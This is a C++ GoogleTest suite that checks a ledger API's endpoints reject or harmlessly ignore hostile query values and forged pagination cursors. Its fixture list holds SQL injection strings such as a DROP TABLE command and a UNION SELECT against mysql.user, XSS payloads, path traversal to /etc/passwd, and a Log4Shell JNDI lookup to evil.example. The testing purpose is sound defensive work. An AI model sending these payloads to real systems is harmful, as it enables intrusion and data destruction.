// SQL, scripts and noise in every parameter of every list, and cursors that were never given: each is refused
// with the parameter's name and what it may be, or is a text that matches nothing; the ledger stays as it
// was.
#include <fmt/format.h>

#include <algorithm>

#include <gtest/gtest.h>

#include "tests/api/support/test_ledger.hpp"
#include "tests/api/support/test_server.hpp"
#include "tests/hostile/raw_client.hpp"

namespace mapledger::api {
namespace {

constexpr std::uint64_t kHost = 0xa;
constexpr std::int64_t kStart = 1'763'640'000'000'000;

std::string coded(const std::string& text) {
  std::string code;
  for (const char c : text) code += fmt::format("%{:02x}", static_cast<unsigned char>(c));
  return code;
}

const std::vector<std::string>& hostile_texts() {
  static const std::vector<std::string> texts = {
      "' OR '1'='1",
      "1 OR 1=1",
      "1; DROP TABLE requests; --",
      "\\'; DROP TABLE processes; --",
      "1 UNION SELECT user, password FROM mysql.user",
      "SLEEP(30)",
      "<script>alert(1)</script>",
      "\"><img src=x onerror=alert(1)>",
      "javascript:alert(1)",
      "{{7*7}}",
      "${jndi:ldap://evil.example/a}",
      "%s%s%n",
      "../../../../etc/passwd",
      std::string("a\0b", 3),
      "\xff\xfe",
      "\xe2\x80\xae",
      "-1",
      "1e9",
      "0x10",
      "99999999999999999999999999",
      " 1",
      "NaN",
      "true false",
      "[]",
      std::string(2000, 'x'),
  };
  return texts;
}

struct Parameter {
  const char* path;
  const char* name;
};

class HostileParams : public testing::TestWithParam<Parameter> {};

/// One ledger for all: what one case broke the next would see.
class SharedLedger {
 public:
  SharedLedger() : ledger_(), server_(filled(ledger_)) {}
  [[nodiscard]] std::uint16_t port() const { return server_.port(); }

 private:
  static DatabaseConfig filled(TestLedger& ledger) {
    ledger.add_host(kHost, kStart);
    std::vector<MemoryRequest> batch;
    for (std::uint64_t seq = 1; seq <= 20; ++seq) batch.push_back(request_at(kHost, kStart, seq, 42));
    ledger.store_batch(batch);
    for (std::uint64_t id = 1; id <= 5; ++id) ledger.put_process(kHost, id, 4096 * id);
    return ledger.reader();
  }
  TestLedger ledger_;
  TestServer server_;
};

std::uint16_t port() {
  static const SharedLedger served;
  return served.port();
}

std::size_t rows() {
  return get(port(), "/api/v1/requests").problem()["items"].size();
}

TEST_P(HostileParams, AreRefusedByNameOrMatchNothing) {
  const std::size_t before = rows();
  ASSERT_EQ(before, 20U);
  for (const std::string& text : hostile_texts()) {
    const Answered answered =
        get(port(), fmt::format("{}?{}={}", GetParam().path, GetParam().name, coded(text)));
    const Json json = answered.problem();
    EXPECT_NE(answered.head.find("X-Content-Type-Options: nosniff"), std::string::npos);
    EXPECT_EQ(answered.head.find("text/html"), std::string::npos);
    ASSERT_FALSE(json.is_discarded()) << text;
    if (answered.status == 200) {
      EXPECT_TRUE(json.contains("items")) << text;
      EXPECT_LE(json["items"].size(), before) << text;
      continue;
    }
    EXPECT_TRUE(answered.status == 400 || answered.status == 414) << text << answered.head;
    if (answered.status != 400) continue;
    EXPECT_EQ(json["parameter"], GetParam().name) << answered.body;
    EXPECT_FALSE(json["allowed"].get<std::string>().empty());
  }
  EXPECT_EQ(rows(), before);
}

INSTANTIATE_TEST_SUITE_P(All, HostileParams,
                         testing::ValuesIn(std::vector<Parameter>{{"/api/v1/processes", "host"},
                                                                  {"/api/v1/processes", "pid"},
                                                                  {"/api/v1/processes", "live"},
                                                                  {"/api/v1/processes", "limit"},
                                                                  {"/api/v1/processes", "cursor"},
                                                                  {"/api/v1/top", "host"},
                                                                  {"/api/v1/top", "by"},
                                                                  {"/api/v1/requests", "host"},
                                                                  {"/api/v1/requests", "pid"},
                                                                  {"/api/v1/requests", "limit"},
                                                                  {"/api/v1/requests", "cursor"},
                                                                  {"/api/v1/gaps", "host"},
                                                                  {"/api/v1/gaps", "limit"},
                                                                  {"/api/v1/gaps", "cursor"},
                                                                  {"/api/v1/status", "host"},
                                                                  {"/api/v1/status", "<script>"}}),
                         [](const auto& each) {
                           std::string name = std::string(each.param.path).substr(8) + "_" + each.param.name;
                           std::erase_if(name, [](char c) {
                             return std::isalnum(static_cast<unsigned char>(c)) == 0 && c != '_';
                           });
                           return name;
                         });

TEST(HostileCursors, ForgedOnesAreRefused) {
  const auto next = get(port(), "/api/v1/requests?limit=5").problem()["next_cursor"].get<std::string>();
  std::vector<std::string> forged = {
      next.substr(1), next.substr(0, next.size() - 1), next + "A",
      next + next,    std::string(next.size(), 'A'),   std::string(next.size(), '-')};
  forged.push_back(get(port(), "/api/v1/processes?limit=2").problem()["next_cursor"].get<std::string>());
  for (const std::string& each : forged) {
    const Answered answered = get(port(), "/api/v1/requests?cursor=" + each);
    EXPECT_EQ(answered.status, 400U) << each << answered.body;
    EXPECT_EQ(answered.problem()["parameter"], "cursor");
  }
  EXPECT_EQ(get(port(), "/api/v1/requests?cursor=" + next).status, 200U);
}

TEST(HostileCursors, ChangedInAnyCharacterTheyNeverGiveMoreThanTheLogHolds) {
  const auto next = get(port(), "/api/v1/requests?limit=5").problem()["next_cursor"].get<std::string>();
  for (std::size_t i = 0; i < next.size(); ++i) {
    std::string changed = next;
    changed[i] = changed[i] == 'B' ? 'C' : 'B';
    const Answered answered = get(port(), "/api/v1/requests?cursor=" + changed);
    EXPECT_TRUE(answered.status == 200 || answered.status == 400 || answered.status == 404) << answered.head;
    if (answered.status == 200) {
      EXPECT_LE(answered.problem()["items"].size(), 20U);
    }
  }
}

TEST(HostileIds, AreNoProcesses) {
  for (const std::string& text : hostile_texts()) {
    const Answered answered = get(port(), "/api/v1/processes/" + coded(text));
    EXPECT_TRUE(answered.status == 400 || answered.status == 404 || answered.status == 414)
        << text << answered.head;
    EXPECT_FALSE(answered.problem().is_discarded());
  }
}

}  // namespace
}  // namespace mapledger::api
